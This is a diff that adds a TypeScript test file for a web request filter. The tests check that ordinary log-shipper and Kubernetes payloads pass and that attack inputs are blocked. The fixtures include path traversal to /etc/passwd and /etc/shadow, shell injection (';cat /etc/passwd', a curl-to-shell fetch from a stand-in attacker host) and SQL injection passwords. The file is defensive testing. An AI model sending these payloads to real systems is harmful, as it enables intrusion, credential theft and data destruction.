@@ -1,0 +1,93 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { blockedBy } from '../../corpora/report/default-set.ts';
+
+const json = (value: unknown, type = 'application/json'): string =>
+  blockedBy({
+    method: 'POST',
+    target: '/v1/x',
+    headers: ['Content-Type', type],
+    body: typeof value === 'string' ? value : JSON.stringify(value),
+  });
+const form = (body: string): string =>
+  blockedBy({
+    method: 'POST',
+    target: '/login',
+    headers: ['Content-Type', 'application/x-www-form-urlencoded'],
+    body,
+  });
+
+const attribute = (key: string, stringValue: string) => ({
+  resourceLogs: [{ resource: { attributes: [{ key, value: { stringValue } }] } }],
+});
+
+const ships: readonly unknown[] = [
+  { log: { file: { path: '/var/log/auth.log' } }, message: 'x' },
+  { streams: [{ stream: { filename: '/var/log/syslog' }, values: [['1', 'x']] }] },
+  { source: '/var/log/messages', event: 'x' },
+  [{ source: '/var/log/nginx/access.log', code: 200 }],
+  { file: '/var/log/nginx/error.log', message: 'x', timestamp: '2024-05-03T10:12:44Z' },
+  { log_path: '/var/log/syslog', msg: 'x', ts: 1714731164 },
+  attribute('log.file.path', '/var/log/pods/a/0.log'),
+  attribute('process.command_line', '/usr/bin/python3 /srv/app/main.py --port 8080'),
+  { volumeMounts: [{ mountPath: '/etc/app' }] },
+];
+
+test('the logs and mounts that shippers and agents tell of pass, under the names they give them', () => {
+  for (const value of ships) assert.equal(json(value), '', JSON.stringify(value));
+});
+
+const attacks: readonly unknown[] = [
+  { file: '/var/log/auth.log' },
+  { path: '/var/log/apache2/access.log' },
+  { file: '/var/log/auth.log', message: 'x' },
+  { file: '/var/log/auth.log', timestamp: 'x' },
+  { file: '/etc/passwd', message: 'x', timestamp: 1 },
+  { file: '/etc/nginx/nginx.conf', message: 'x', timestamp: 1 },
+  { file: '../../../var/log/auth.log', message: 'x', timestamp: 1 },
+  { file: '/var/log/../../etc/passwd', message: 'x', timestamp: 1 },
+  { page: '/var/log/auth.log', message: 'x', timestamp: 1 },
+  { file: '%2fvar%2flog%2fauth.log', message: 'x', timestamp: 1 },
+  { file: '/var/log/auth.log;id', message: 'x', timestamp: 1 },
+  { a: { source: '/var/log/auth.log' } },
+  { source: '/etc/passwd' },
+  { source: '../../../../var/log/syslog' },
+  { log: { file: { path: '/etc/shadow' } } },
+  { log: { file: { path: '/proc/self/environ' } } },
+  { mountPath: '/etc/passwd' },
+  { mountPath: '../../etc' + '/passwd' },
+  attribute('log.file.path', '/etc/shadow'),
+  attribute('process.command_line', ';cat /etc/passwd'),
+  attribute('x', '$(curl http://c.attacker.test/a|sh)'),
+  { value: { stringValue: '/var/log/auth.log' } },
+  { process: { command_line: 'x; cat /etc/passwd' } },
+];
+
+test('files that only an attacker names, what climbs, and logs anywhere else are blocked as before', () => {
+  for (const value of attacks) assert.notEqual(json(value), '', JSON.stringify(value));
+  for (const name of ['source', 'log.file.path', 'mountPath', 'file']) {
+    assert.notEqual(blockedBy({ target: `/x?${name}=/var/log/auth.log&message=a&timestamp=1` }), '', name);
+    assert.notEqual(form(`${name}=%2Fvar%2Flog%2Fauth.log&message=a&timestamp=1`), '', name);
+  }
+});
+
+test('a strong password may end in a quote and dashes; whatever else does is an injection', () => {
+  for (const password of [`x;y'z"--`, "r0ub4dor&3';--", `x'K9#"--`]) {
+    assert.equal(json({ user: 'bob', password }), '', password);
+    assert.equal(form(new URLSearchParams({ username: 'bob', password }).toString()), '', password);
+    assert.notEqual(json({ user: password }), '', password);
+    assert.notEqual(blockedBy({ target: `/x?password=${encodeURIComponent(password)}` }), '', password);
+  }
+  for (const password of [
+    "admin'--",
+    "administrator'--",
+    "1'--",
+    "' OR 1=1--",
+    "x1' OR '1'='1'--",
+    "a1b2c3d4' OR 1=1--",
+    "secret1';DROP TABLE users--",
+    "secret1' UNION SELECT 1,2--",
+    "secret 1 word'--",
+  ])
+    assert.notEqual(json({ user: 'bob', password }), '', password);
+});
